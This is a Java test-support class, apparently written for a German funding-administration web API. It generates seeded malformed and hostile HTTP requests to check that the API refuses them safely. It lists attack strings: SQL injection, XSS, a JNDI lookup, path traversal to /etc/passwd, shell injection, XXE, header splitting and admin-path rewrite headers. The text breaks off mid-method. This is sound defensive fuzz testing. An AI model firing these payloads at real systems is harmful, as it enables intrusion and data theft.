package nrw.komman.app.reliability;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import nrw.komman.app.support.Api.Login;
import nrw.komman.app.reliability.ApiDescription.Operation;
import nrw.komman.app.reliability.ApiRules.Rule;
import nrw.komman.app.reliability.ApiRules.Who;
import nrw.komman.kernel.access.Scope;
import nrw.komman.kernel.common.AccountRole;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashSet;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.UUID;
import java.util.function.Consumer;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Generates malformed and hostile requests for the operations of the OpenAPI description, deterministically from a
 * seed: request {@code i} depends only on the seed and {@code i}, so any failure can be replayed alone.
 *
 * <p>A request that changes something (POST, PUT, PATCH, DELETE, ...) starts from a valid request of an allowed caller
 * ({@link Fixtures}), gets some noise that does not decide the outcome (odd Unicode and injection strings in free
 * text, unknown fields and parameters, odd headers) and then exactly one <em>poison</em> that the API must refuse:
 * missing or broken credentials, a role without access, a coordinator of another centre, a malformed id, a path
 * trick, a wrong method, or a broken body (malformed JSON, wrong types, bad enum values, dates and amounts, too long
 * values, missing required fields, wrong content type, too large or too deeply nested). So every such request must be
 * refused, and none may change the data. Reading requests (GET) get any mix of these and may be answered; they too
 * must never fail with 5xx or leak internals.
 */
final class HostileRequests {

    private static final ObjectMapper JSON = new ObjectMapper();

    /** Text that a hostile client puts into fields: SQL, HTML, script, template and shell injection, header splitting. */
    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE account; --", "\" OR 1=1 --", "1; SELECT pg_sleep(5)--",
            "' UNION SELECT username, password_hash FROM account --", "'||(SELECT version())||'", "admin'--",
            "1' AND SLEEP(5)#", "%' AND 1=0 UNION ALL SELECT NULL--", "\\'; SHUTDOWN; --",
            "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "\"><svg/onload=alert(1)>",
            "javascript:alert(1)", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://example.org/a}",
            "%s%s%s%n%x", "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "$(touch /tmp/x)", "`id`",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            "\r\nSet-Cookie: x=y", "%0d%0aLocation:%20http://example.org", "*)(uid=*))(|(uid=*", "{\"$gt\": \"\"}");

    /** Odd Unicode: NUL and control characters, direction overrides, zero-width, combining marks, emoji, other scripts. */
    static final List<String> UNICODE = List.of(
            "\u0000", "a\u0000b", "\u0001\u0002\u001f\u007f", "\u202Egnp.exe\u202C", "\u202Bمرحبا\u202C", "\u061C\u200F\u200E",
            "\u200B\u200C\u200D\uFEFF", "e\u0301\u0301\u0301\u0301", "Z\u0334\u0321\u0322\u031B\u0340\u0341\u0342\u0346".repeat(20),
            "\u0301".repeat(1000), "👩‍👩‍👧‍👦", "🇩🇪🇺🇦🇸🇾", "😀".repeat(50), "𝕳𝖊𝖑𝖑𝖔", "Ω≈ç√∫˜µ≤≥÷", "ﷺ", "ᚠᛇᚻ᛫ᛒᛦᚦ",
            "İıŞşĞğ", "ǅǈǋ", "ß", "\u2028\u2029\u0085", "\t\n\r", "\uFFFD\uFFFF\uFFFE", "ｓｃｒｉｐｔ", "١٢٣", "Ⅻ",
            "دانشجو ایرانی", "Україна", "日本語テキスト", "שלום", "\u00A0\u2007\u202F", "\u0000".repeat(100),
            "⟦u:d800⟧", "⟦u:dfff⟧", "x⟦u:dbff⟧⟦u:dbff⟧y", "⟦u:0000⟧");

    /** Values of a UUID path variable that are no UUID (or no path segment at all); inserted as they are. */
    static final List<String> BAD_UUIDS = List.of(
            "not-a-uuid", "1", "-1", "0", "null", "undefined", "00000000-0000-0000-0000-00000000000g",
            "%7B00000000-0000-0000-0000-000000000000%7D", "..", "%2e%2e", "%2E%2E%2F%2E%2E", "%2F", "a%2Fb", "%00", "a%00b",
            "%252e%252e", "%u002e", "%C0%AE%C0%AE", "%ff%fe", "%", "%zz", "*", "~", "%24%7B7*7%7D", "'", "%27%20OR%20'1'%3D'1",
            "%3Cscript%3E", "%E2%80%AE", "%F0%9F%98%80", "%EF%BC%85", "x".repeat(300), "9".repeat(2000), "x".repeat(9000),
            "%20", "+", ";x=1", "a;jsessionid=1", "%3B", "%5C..%5C", "ä", "😀", "\u202E", "a b");

    /**
     * Wrong personal-link tokens: well-formed but unknown ones (each must be a 404, "Dieser Link ist ungültig oder
     * abgelaufen."), and malformed ones.
     */
    static final List<String> BAD_TOKENS = List.of(
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "dGhpcy1pcy1ub3QtYS10b2tlbi1vZi1hbnlvbmUtYXQtYWxs",
            "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", "x", "", "%20", "..", "%2e%2e", "%00",
            "a%2Fb", "%27%20OR%20'1'%3D'1", "x".repeat(300), "x".repeat(9000), "%F0%9F%98%80", "null", "*", ";x=1",
            UUID.randomUUID().toString());

    static final List<String> BAD_CENTRES = List.of(
            "0531", "053150", "05315x", "5315", "05315%20OR%201%3D1", "%2705315%27", "05215", "06315", "%EF%BC%90%EF%BC%95",
            "05315%00", "x".repeat(300), "..", "%2e%2e", "-1", "05315;x", "ab%2Fcd", "0531\u0665");

    static final List<String> BAD_USERNAMES = List.of(
            "niemand.da", "%27%20OR%201%3D1%20--", "..", "%2e%2e", "x".repeat(200), "admin%00", "%3Cscript%3E", "%F0%9F%98%80",
            "nobody;x=1", "a%2Fb", "%");

    static final List<String> BAD_YEARS = List.of("zwanzig", "1999", "-1", "2026.0", "99999999999", "0x7E6", "2026%20", "1e3",
            "%27%20OR%201%3D1", "", "2026%00");

    static final List<String> BAD_PARTS = List.of("PART_IV", "part_ii_a", "PART_II_A'--", "PART_II_%C3%84", "%00", "..", "x".repeat(500));

    /** Amounts that Money.parse must refuse. */
    static final List<String> BAD_AMOUNTS = List.of("abc", "12,50", "1.2.3", "-1.00", "1.001", "99999999999.00", "NaN",
            "Infinity", "'; DROP TABLE budget; --", "<script>", "1_000", "0x10", "€100", "100 €", "1e10000", "--1", "");

    static final List<String> BAD_DATES = List.of("31.12.2025", "2025-02-30", "2025-13-01", "2025-1-1", "heute", "<script>",
            "' OR 1=1", "99999-01-01", "2025-01-01T25:00:00Z", "", "2025-01\u0000-01", "2025‐01‐01"); // the date parsers trim, so no NUL at the ends

    static final List<String> BAD_INSTANTS = List.of("31.12.2025 10:00", "2025-02-30T10:00:00Z", "2025-01-01T25:00:00Z",
            "yesterday", "<script>", "2025-01-01 10:00:00", "", "2025-01-01T10:00:00+25:00");

    /** Methods; the made-up ones must be refused like unknown methods. */
    static final List<String> METHODS = List.of("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "FOO", "PROPFIND");

    /** Signs of internals in an answer: stack traces, class names, SQL errors. */
    static final List<String> LEAKS = List.of("at org.", "at java.", "\tat ", "Exception", "java.", "javax.", "jakarta.",
            "SQLState", "SQLException", "org.springframework", "org.h2", "org.postgresql", "org.axonframework",
            "com.fasterxml", "nrw.komman", "Caused by", "PSQLException", "syntax error at or near", "Apache Tomcat");

    enum Poison {
        NO_CREDENTIALS, BROKEN_CREDENTIALS, WRONG_PASSWORD, ROLE_DENIED, FOREIGN_CENTRE, MALFORMED_ID, PATH_TRICK,
        WRONG_METHOD, MALFORMED_JSON, WRONG_TOP_LEVEL, WRONG_CONTENT_TYPE, HUGE_BODY, DEEP_NESTING, INVALID_UTF8,
        MISSING_REQUIRED, WRONG_TYPE, BAD_ENUM, BAD_DATE, TOO_LONG, BAD_AMOUNT, BAD_CENTRE_IN_BODY, EMPTY_BODY
    }

    /** One generated request, what it must get, and how it was made. */
    record Generated(int index, Operation operation, RawHttp.Request request, boolean mustBeRefused, boolean callerDenied,
                     String recipe) {
    }

    private final ApiDescription api;
    private final Fixtures fixtures;
    private final long seed;
    private final long maxBody;
    private final List<Operation> writes;
    private final List<Operation> reads;

    HostileRequests(ApiDescription api, Fixtures fixtures, long seed, long maxBody) {
        this.api = api;
        this.fixtures = fixtures;
        this.seed = seed;
        this.maxBody = maxBody;
        this.writes = api.operations().stream().filter(op -> !op.method().equals("GET")).toList();
        this.reads = api.operations().stream().filter(op -> op.method().equals("GET")).toList();
    }

    Generated generate(int index) {
        Random rnd = new Random(seed * 1_000_003L + index);
        boolean write = rnd.nextInt(100) < 70;
        Operation op = write ? pick(rnd, writes) : pick(rnd, reads);
        Draft d = new Draft(op, rnd);
        if (write) {
            for (int n = rnd.nextInt(3); n > 0; n--) {
                noise(d);
            }
            List<Poison> applicable = applicablePoisons(d);
            Poison poison = pick(rnd, applicable);
            apply(d, poison);
        } else {
            for (int n = 1 + rnd.nextInt(3); n > 0; n--) {
                if (rnd.nextBoolean()) {
                    noise(d);
                } else {
                    apply(d, pick(rnd, applicablePoisons(d)));
                }
            }
            if (rnd.nextInt(3) == 0) {
                queryNoise(d, true);
            }
        }
        RawHttp.Request request = d.build();
        return new Generated(index, op, request, request.isWrite() || write, d.callerDenied(), String.join(",", d.recipe));
    }

    // ---- the draft of one request -------------------------------------------------------------------------------

    private final class Draft {
        final Operation op;
        final Random rnd;
        final Rule rule;
        String method;
        final Map<String, String> pathValues = new LinkedHashMap<>();
        String pathTrick;
        final List<String[]> query = new ArrayList<>();
        final List<String[]> headers = new ArrayList<>();
        Who who;
        String authorization;
        Map<String, Object> body;
        byte[] rawBody;
        String contentType;
        boolean chunked;
        boolean validCredentials = true;
        /** The operation's own query parameters were changed: it may address another centre than Köln now. */
        boolean addressTouched;
        final List<String> recipe = new ArrayList<>();

        Draft(Operation op, Random rnd) {
            this.op = op;
            this.rnd = rnd;
            this.rule = ApiRules.of(op);
            this.method = op.method();
            op.pathVariables().forEach(v -> pathValues.put(v, fixtures.value(op, v)));
            String q = fixtures.query(op);
            if (!q.isEmpty()) {
                for (String pair : q.substring(1).split("&")) {
                    String[] kv = pair.split("=", 2);
                    query.add(new String[]{kv[0], kv[1]});
                }
            }
            List<Who> allowed = new ArrayList<>();
            for (Who w : Who.values()) {
                if (rule == null ? w != Who.ANONYMOUS : rule.expected(w) == 0) {
                    allowed.add(w);
                }
            }
            who = op.method().equals("GET") ? pick(rnd, List.of(Who.values())) : pick(rnd, allowed);
            body = fixtures.body(op, api);
            contentType = body == null ? null : "application/json";
        }

        boolean callerDenied() {
            return rule != null && validCredentials && who != Who.ANONYMOUS && authorization == null && rule.expected(who) != 0
                    && !(addressTouched && who == Who.COORDINATOR_FOREIGN_CENTRE);
        }

        JsonNode schema() {
            return op.bodySchema() == null ? JSON.missingNode() : api.resolve(op.bodySchema());
        }

        RawHttp.Request build() {
            StringBuilder target = new StringBuilder();
            String path = op.path();
            for (Map.Entry<String, String> v : pathValues.entrySet()) {
                path = path.replace("{" + v.getKey() + "}", v.getValue());
            }
            target.append(pathTrick == null ? path : pathTrick.replace("{path}", path).replace("{tail}", path.substring(4))
                    .replace("{dotted}", "/api/x/.." + path.substring(4)));
            for (String[] kv : query) {
                target.append(target.indexOf("?") < 0 ? '?' : '&').append(kv[0]).append('=').append(kv[1]);
            }
            RawHttp.Request request = RawHttp.Request.of(method, target.toString(), String.join(",", recipe));
            if (authorization != null) {
                request.header("Authorization", authorization);
            } else {
                Login login = Fixtures.login(who);
                if (login != null) {
                    request.basic(login.username(), login.password());
                }
            }
            headers.forEach(h -> request.header(h[0], h[1]));
            if (contentType != null) {
                request.header("Content-Type", contentType);
            }
            byte[] bytes = rawBody != null ? rawBody : body == null ? null : json(body);
            return bytes == null ? request : request.withBody(bytes, chunked);
        }
    }

    // ---- poisons ------------------------------------------------------------------------------------------------

    private List<Poison> applicablePoisons(Draft d) {
        boolean bySecret = d.rule != null && d.rule.bySecret();
        // no account is needed where the token or number in the path is the credential: credentials decide nothing there
        List<Poison> list = new ArrayList<>(bySecret ? List.of(Poison.PATH_TRICK, Poison.WRONG_METHOD)
                : List.of(Poison.NO_CREDENTIALS, Poison.BROKEN_CREDENTIALS, Poison.PATH_TRICK, Poison.WRONG_METHOD));
        if (!bySecret && d.rnd.nextInt(20) == 0) {
            list.add(Poison.WRONG_PASSWORD); // rare: each costs a password hash
        }
        if (d.rule != null && d.rule.roles().size() < ApiRules.ACCOUNT_ROLES.size()) {
            list.add(Poison.ROLE_DENIED);
        }
        if (d.rule != null && d.rule.scope() == Scope.OWN_CENTRE && d.rule.roles().contains(AccountRole.COORDINATOR)
                && foreignAddressable(d.op)) {
            list.add(Poison.FOREIGN_CENTRE);
        }
        if (!d.pathValues.isEmpty()) {
            list.add(Poison.MALFORMED_ID);
            list.add(Poison.MALFORMED_ID);
        }
        if (d.body != null) {
            list.addAll(List.of(Poison.MALFORMED_JSON, Poison.WRONG_TOP_LEVEL, Poison.WRONG_CONTENT_TYPE, Poison.HUGE_BODY,
                    Poison.DEEP_NESTING, Poison.INVALID_UTF8, Poison.WRONG_TYPE, Poison.WRONG_TYPE));
            if (d.op.bodyRequired()) {
                list.add(Poison.EMPTY_BODY);
            }
            if (d.schema().path("required").size() > 0) {
                list.add(Poison.MISSING_REQUIRED);
                list.add(Poison.MISSING_REQUIRED);
            }
            if (!fields(d, f -> f.has("enum") || f.path("items").has("enum")).isEmpty()) {
                list.add(Poison.BAD_ENUM);
            }
            if (!fields(d, f -> f.path("format").asText().startsWith("date")).isEmpty()) {
                list.add(Poison.BAD_DATE);
            }
            if (!fields(d, f -> f.has("maxLength")).isEmpty()) {
                list.add(Poison.TOO_LONG);
            }
            if (d.body.keySet().stream().anyMatch(HostileRequests::isAmount)) {
                list.add(Poison.BAD_AMOUNT);
            }
            if (d.body.containsKey("centreId")) {
                list.add(Poison.BAD_CENTRE_IN_BODY);
            }
        }
        return list;
    }

    /** The foreign coordinator is refused where the operation names Köln's data (path) or Köln in its body. */
    private static boolean foreignAddressable(Operation op) {
        return !op.pathVariables().isEmpty() || op.key().equals("POST /api/grants") || op.key().equals("POST /api/reports/annual/jobs")
                || op.key().equals("GET /api/grants") || op.key().startsWith("GET /api/reports/annual");
    }

    private void apply(Draft d, Poison poison) {
        d.recipe.add(poison.name());
        Random rnd = d.rnd;
        switch (poison) {
            case NO_CREDENTIALS -> d.who = Who.ANONYMOUS;
            case BROKEN_CREDENTIALS -> {
                d.validCredentials = false;
                d.authorization = pick(rnd, List.of("Basic", "Basic ", "Basic !!!", "Basic " + b64("ohne-doppelpunkt"),
                        "Bearer eyJhbGciOiJub25lIn0.e30.", "Digest username=\"admin\"", "Basic " + "A".repeat(9000),
                        "Basic =====", "Basic " + b64("admin") + "%00", "Negotiate YII=", "Basic YWRtaW46\u00e4"));
            }
            case WRONG_PASSWORD -> {
                d.validCredentials = false;
                Login base = Fixtures.login(Who.values()[1 + rnd.nextInt(Who.values().length - 1)]);
                d.authorization = "Basic " + b64(pick(rnd, List.of(
                        base.username() + ":" + base.password() + "x",
                        base.username() + ":" + pick(rnd, INJECTIONS),
                        pick(rnd, INJECTIONS) + ":" + base.password(),
                        base.username() + "\u0000:" + base.password(),
                        base.username().toUpperCase() + ":" + pick(rnd, UNICODE),
                        ":" + base.password(),
                        base.username() + ":")));
            }
            case ROLE_DENIED -> {
                List<Who> denied = new ArrayList<>();
                for (Who w : Who.values()) {
                    if (w != Who.ANONYMOUS && d.rule.expected(w) != 0) {
                        denied.add(w);
                    }
                }
                d.who = pick(rnd, denied);
            }
            case FOREIGN_CENTRE -> d.who = Who.COORDINATOR_FOREIGN_CENTRE;
            case MALFORMED_ID -> {
                String name = pick(rnd, new ArrayList<>(d.pathValues.keySet()));
                d.pathValues.put(name, switch (name) {
                    case "centreId" -> pick(rnd, BAD_CENTRES);
                    case "username" -> pick(rnd, BAD_USERNAMES);
                    case "fundingYear" -> pick(rnd, BAD_YEARS);
                    case "programmePart" -> pick(rnd, BAD_PARTS);
                    case "format" -> pick(rnd, List.of("exe", "csv%00", "pdf;x", "..", "CSV", "xml", "json"));
                    case "token" -> pick(rnd, BAD_TOKENS);
                    default -> rnd.nextInt(4) == 0 ? d.pathValues.get(name) + pick(rnd, List.of("x", "%00", "%20", "0", "-", "%2F..",
                            ";x")) : pick(rnd, BAD_UUIDS);
                });
            }
            case PATH_TRICK -> d.pathTrick = pick(rnd, List.of("{path}/", "{path}//", "{path}/.", "{dotted}", "{path}/..x/..",
                    "{path};x=1", "{path}%00", "{path}%2F", "{path}%20", "{path}.json", "/API{tail}", "{path}/%2e", "/{path}",
                    "{path}\\", "{path}%5C", "{path}#frag", "{path}/../x", "{path}%23", "{path}%09", "{path}/%2e%2e/"));
            case WRONG_METHOD -> d.method = pick(rnd, undeclaredMethods(d));
            case MALFORMED_JSON -> {
                byte[] json = json(d.body);
                String broken = pick(rnd, List.of("truncate", "quote", "comma", "comment", "single", "nan"));
                String text = new String(json, StandardCharsets.UTF_8);
                d.rawBody = (switch (broken) {
                    case "truncate" -> text.substring(0, cutInsideAString(text, rnd));
                    case "quote" -> text.replaceFirst("\"", "");
                    case "comma" -> text.substring(0, text.length() - 1) + ",,}";
                    case "comment" -> "/* " + pick(rnd, INJECTIONS) + " */" + text;
                    case "single" -> text.replace('"', '\'');
                    default -> "{\"x\": NaN, " + text.substring(1);
                }).getBytes(StandardCharsets.UTF_8);
            }
            case WRONG_TOP_LEVEL -> d.rawBody = pick(rnd, List.of("[]", "[{}]", "\"text\"", "42", "true", "null", "[" + new String(
                    json(d.body), StandardCharsets.UTF_8) + "]")).getBytes(StandardCharsets.UTF_8);
            case WRONG_CONTENT_TYPE -> {
                String ct = pick(rnd, List.of("text/plain", "application/xml", "text/html", "application/x-www-form-urlencoded",
                        "multipart/form-data; boundary=x", "application/octet-stream", "image/png", "", "application/jsonx",
                        "application/problem+json", "json", "../json", "application/json\u0000", "*/*"));
                if (ct.isEmpty()) {
                    d.contentType = null;
                } else {
                    d.contentType = ct;
                }
                if (ct.startsWith("application/x-www-form")) {
                    d.rawBody = "name=x&reason=y".getBytes(StandardCharsets.UTF_8);
                }
            }
            case HUGE_BODY -> {
                int size = (int) maxBody + 1 + rnd.nextInt((int) maxBody * 8);
                String filler = pick(rnd, List.of("x", "ä", "😀", "\\u0000", " "));
                StringBuilder sb = new StringBuilder("{\"").append(firstField(d)).append("\":\"");
                while (sb.length() < size) {
                    sb.append(filler);
                }
                sb.append("\"}");
                d.rawBody = sb.toString().getBytes(StandardCharsets.UTF_8);
                d.chunked = rnd.nextBoolean();
            }
            case DEEP_NESTING -> {
                int depth = 2000 + rnd.nextInt(20000);
                boolean arrays = rnd.nextBoolean();
                String open = arrays ? "[" : "{\"a\":";
                StringBuilder sb = new StringBuilder("{\"").append(firstField(d)).append("\":");
                sb.append(open.repeat(depth)).append("1").append((arrays ? "]" : "}").repeat(depth)).append('}');
                d.rawBody = sb.toString().getBytes(StandardCharsets.UTF_8);
                if (d.rawBody.length > maxBody) {
                    d.chunked = rnd.nextBoolean();
                }
            }
            case INVALID_UTF8 -> {
                d.contentType = "application/json"; // a charset of the noise would make the bytes valid
                byte[] json = json(d.body);
                // only what a UTF-8 decoder must refuse (Jackson takes overlong forms and encoded surrogates: see the noise)
                byte[] bad = pick(rnd, List.of(new byte[]{(byte) 0xC3, 0x28}, new byte[]{(byte) 0xFF}, new byte[]{(byte) 0xFE, (byte) 0xFF},
                        new byte[]{(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, new byte[]{(byte) 0xE2, (byte) 0x82, 0x41},
                        new byte[]{(byte) 0x80}));
                // into the first string value: after its opening quote
                int at = indexOfFirstStringValue(json);
                ByteArrayOutputStream out = new ByteArrayOutputStream();
                out.write(json, 0, at);
                out.writeBytes(bad);
                out.write(json, at, json.length - at);
                d.rawBody = out.toByteArray();
            }
            case EMPTY_BODY -> d.rawBody = pick(rnd, List.of("", " ", "\r\n")).getBytes(StandardCharsets.UTF_8);
            case MISSING_REQUIRED -> {
                List<String> required = new ArrayList<>();
                d.schema().path("required").forEach(r -> required.add(r.asText()));
                String field = pick(rnd, required);
                if (rnd.nextBoolean()) {
                    d.body.remove(field);
                } else {
                    d.body.put(field, null);
                }
            }
            case WRONG_TYPE -> {
                String field = pick(rnd, new ArrayList<>(d.schema().path("properties").properties().stream().map(Map.Entry::getKey).toList()));
                JsonNode s = api.resolve(d.schema().path("properties").path(field));
                d.body.put(field, wrongTypeFor(s, rnd));
            }
            case BAD_ENUM -> {
                String field = pick(rnd, fields(d, f -> f.has("enum") || f.path("items").has("enum")));
                JsonNode s = api.resolve(d.schema().path("properties").path(field));
                String bad = pick(rnd, List.of(pick(rnd, INJECTIONS), pick(rnd, UNICODE), "ZAUBEREI", "", " ", "null",
                        s.has("enum") ? nulInside(s.get("enum").get(0).asText()) : "ÄNDERN", "-"));
                d.body.put(field, s.path("type").asText().equals("array") ? List.of(bad) : bad);
            }
            case BAD_DATE -> {
                String field = pick(rnd, fields(d, f -> f.path("format").asText().startsWith("date")));
                JsonNode s = api.resolve(d.schema().path("properties").path(field));
                d.body.put(field, pick(rnd, s.path("format").asText().equals("date") ? BAD_DATES : BAD_INSTANTS));
                if (d.body.get(field).equals("")) {
                    d.body.put(field, "?");
                }
            }
            case TOO_LONG -> {
                String field = pick(rnd, fields(d, f -> f.has("maxLength")));
                int max = api.resolve(d.schema().path("properties").path(field)).path("maxLength").asInt();
                String unit = rnd.nextBoolean() ? pick(rnd, UNICODE) : pick(rnd, INJECTIONS);
                unit = unit.replaceAll("⟦u:[0-9a-f]{4}⟧", "u");
                StringBuilder sb = new StringBuilder();
                while (sb.length() <= max) {
                    sb.append(unit.isEmpty() ? "x" : unit);
                }
                d.body.put(field, sb.toString());
            }
            case BAD_AMOUNT -> {
                String field = pick(rnd, d.body.keySet().stream().filter(HostileRequests::isAmount).toList());
                d.body.put(field, pick(rnd, BAD_AMOUNTS));
            }
            case BAD_CENTRE_IN_BODY -> d.body.put("centreId", pick(rnd, List.of("0531", "05315x", "' OR 1=1", "05215", "０５３１５", "\u0000",
                    "x".repeat(9), "05315\u202E")));
        }
    }

    private List<String> undeclaredMethods(Draft d) {
        String concrete = d.op.path();
        Set<String> declared = new HashSet<>();
        for (Operation other : api.operations()) {
            if (template(other.path()).matcher(concrete).matches() || template(concrete).matcher(other.path()).matches()) {
                declared.add(other.method());
            }
        }
        List<String> methods = new ArrayList<>(METHODS);
        methods.removeAll(declared);
        methods.remove("GET"); // a GET is no write; it is sent as a read elsewhere
        return methods;
    }

    private static Pattern template(String path) {
        return Pattern.compile(Pattern.quote(path).replaceAll("\\{[^}]+}", "\\\\E[^/]+\\\\Q"));
    }

    // ---- noise ----------------------------------------------------------------------------------------------------

    private void noise(Draft d) {
        Random rnd = d.rnd;
        int kind = rnd.nextInt(5);
        if (kind == 0 && d.body != null) {
            List<String> texts = fields(d, f -> f.path("type").asText().equals("string") && !f.has("enum") && !f.has("format"));
            List<String> free = new ArrayList<>();
            for (String t : texts) {
                if (!isAmount(t) && !t.toLowerCase().endsWith("id")) {
                    free.add(t);
                }
            }
            if (!free.isEmpty()) {
                String field = pick(rnd, free);
                d.body.put(field, String.valueOf(d.body.get(field)) + pick(rnd, rnd.nextBoolean() ? UNICODE : INJECTIONS));
                d.recipe.add("noise:text");
                return;
            }
        }
        if (kind == 1 && d.body != null) {
            d.body.put(pick(rnd, List.of("__proto__", "constructor", "@class", "$where", "id", "role", "centre", "x".repeat(100),
                    pick(rnd, UNICODE))), rnd.nextBoolean() ? pick(rnd, INJECTIONS) : Map.of("@class", "java.lang.Runtime"));
            d.recipe.add("noise:field");
            return;
        }
        if (kind == 2) {
            queryNoise(d, false);
            return;
        }
        if (kind == 3) {
            d.headers.add(pick(rnd, List.of(
                    new String[]{"X-Forwarded-For", pick(rnd, INJECTIONS).replaceAll("[\r\n]", "")},
                    new String[]{"User-Agent", pick(rnd, UNICODE).replaceAll("[\u0000-\u001f\u007f\u0085\u2028\u2029]", "")},
                    new String[]{"Accept-Language", pick(rnd, List.of("*", "xx-YY;q=abc", "de-DE,de;q=0.9," + "a,".repeat(200)))},
                    new String[]{"Cookie", "JSESSIONID=" + pick(rnd, List.of("x", "../../", "%00", "A".repeat(500)))},
                    new String[]{"X-HTTP-Method-Override", pick(rnd, List.of("DELETE", "GET", "PUT"))},
                    new String[]{"Origin", "http://evil.example"},
                    new String[]{"Referer", "javascript:alert(1)"},
                    new String[]{"If-None-Match", "*"},
                    new String[]{"Range", "bytes=0-1,2-3,4-5"},
                    new String[]{"X-Original-URL", "/api/admin/accounts"},
                    new String[]{"X-Rewrite-URL", "/api/admin/retention/runs"})));
            d.recipe.add("noise:header");
            return;
        }
        if (d.contentType != null && d.rawBody == null) {
            d.contentType = pick(rnd, List.of("application/json;charset=UTF-8", "application/json; charset=utf-8",
                    "application/json;charset=utf-16", "application/json; charset=latin1", "application/json;charset=x-unknown",
                    "application/json;a=b;c=\"d\"", "APPLICATION/JSON"));
            d.recipe.add("noise:charset");
        } else {
            queryNoise(d, false);
        }
    }

    /** Odd query parameters; for the operation's own parameters too when {@code ownParameters}. */
    private void queryNoise(Draft d, boolean ownParameters) {
        Random rnd = d.rnd;
        List<String> names = new ArrayList<>(List.of("x", "page", "size", "sort", "q", "callback", "debug", "format", "__proto__"));
        if (ownParameters) {
            d.op.parameters().stream().filter(p -> p.in().equals("query")).forEach(p -> names.add(p.name()));
        }
        String name = pick(rnd, names);
        String value = pick(rnd, List.of(encode(pick(rnd, INJECTIONS)), encode(pick(rnd, UNICODE)), "-1", "0", "2147483648",
                "99999999999999999999", "1e9", "%00", "", "true", "null", "x".repeat(3000), "2999-01-01", "0001-01-01",
                "1999-02-30", "2026-01-01T00:00:00Z", "%", "%zz", "a&b", "ACTIVE", "PART_II_A", "05111", "05315",
                UUID.randomUUID().toString(), fixtures.volunteer, fixtures.appliedGrant));
        d.addressTouched |= ownParameters;
        if (!d.query.isEmpty() && rnd.nextInt(4) == 0) { // a parameter twice: Spring MVC binds an array
            String[] twice = pick(rnd, d.query);
            d.query.add(new String[]{twice[0], pick(rnd, List.of(twice[1], "x", encode(pick(rnd, INJECTIONS))))});
            d.addressTouched = true;
            d.recipe.add("noise:repeated");
            return;
        }
        d.query.removeIf(kv -> kv[0].equals(name) && rnd.nextBoolean());
        d.query.add(new String[]{name, value});
        d.recipe.add("noise:query");
    }

    // ---- helpers --------------------------------------------------------------------------------------------------

    private List<String> fields(Draft d, java.util.function.Predicate<JsonNode> test) {
        List<String> names = new ArrayList<>();
        for (Iterator<Map.Entry<String, JsonNode>> it = d.schema().path("properties").fields(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> p = it.next();
            if (test.test(api.resolve(p.getValue()))) {
                names.add(p.getKey());
            }
        }
        return names;
    }

    private static boolean isText(JsonNode schema, ApiDescription api) {
        JsonNode s = api.resolve(schema);
        return s.path("type").asText().equals("string") && !s.has("enum") && !s.has("format");
    }

    private static Object wrongTypeFor(JsonNode s, Random rnd) {
        String type = s.path("type").asText();
        if (s.has("$ref") || type.equals("object") || s.has("properties")) {
            return pick(rnd, List.of("kein Objekt", List.of(1, 2), 42));
        }
        return switch (type) {
            case "integer", "number" -> pick(rnd, List.of("zwölf", Map.of("wert", 1), List.of(1, 2), "1.5.3", "⟦u:0000⟧"));
            case "array" -> pick(rnd, List.of("ar", Map.of("a", 1), 42, List.of(Map.of("x", List.of()))));
            case "boolean" -> pick(rnd, List.of(Map.of("a", 1), List.of(1, 2), "vielleicht"));
            default -> pick(rnd, List.of(Map.of("wert", pick(rnd, INJECTIONS)), List.of(1, 2), List.of("a", "b"), Map.of()));
        };
    }

    private static String firstField(Draft d) {
        return d.body == null || d.body.isEmpty() ? "x" : d.body.keySet().iterator().next();
    }

    /** Jackson trims enum names (NUL too, as String.trim does): a NUL only counts inside the name. */
    private static String nulInside(String name) {
        return name.length() < 2 ? name + "\u0000x" : name.charAt(0) + "\u0000" + name.substring(1);
    }

    static boolean isAmount(String field) {
        return field.toLowerCase().contains("amount") && !field.toLowerCase().contains("reached");
    }

    /** Serialized JSON with the escapes that Jackson would not write: lone surrogates and NUL as {@code \\uXXXX}. */
    private static byte[] json(Map<String, Object> body) {
        try {
            String text = JSON.writeValueAsString(body);
            Matcher m = Pattern.compile("⟦u:([0-9a-f]{4})⟧").matcher(text);
            return m.replaceAll("\\\\u$1").getBytes(StandardCharsets.UTF_8);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    /** A cut inside a string value: a body cut off after a complete field is taken by Jackson as complete (see the report). */
    private static int cutInsideAString(String json, Random rnd) {
        List<Integer> inside = new ArrayList<>();
        for (int i = json.indexOf(":\""); i >= 0; i = json.indexOf(":\"", i + 1)) {
            inside.add(i + 2);
        }
        return inside.isEmpty() ? Math.max(1, json.length() / 2) : pick(rnd, inside);
    }

    private static int indexOfFirstStringValue(byte[] json) {
        String text = new String(json, StandardCharsets.ISO_8859_1);
        int colon = text.indexOf(":\"");
        return colon < 0 ? Math.min(1, json.length) : colon + 2;
    }

    private static String b64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    /** Percent-encodes everything but unreserved characters, so the value stays one query value. */
    static String encode(String value) {
        StringBuilder sb = new StringBuilder();
        for (byte b : value.replaceAll("⟦u:[0-9a-f]{4}⟧", "u").getBytes(StandardCharsets.UTF_8)) {
            char c = (char) (b & 0xff);
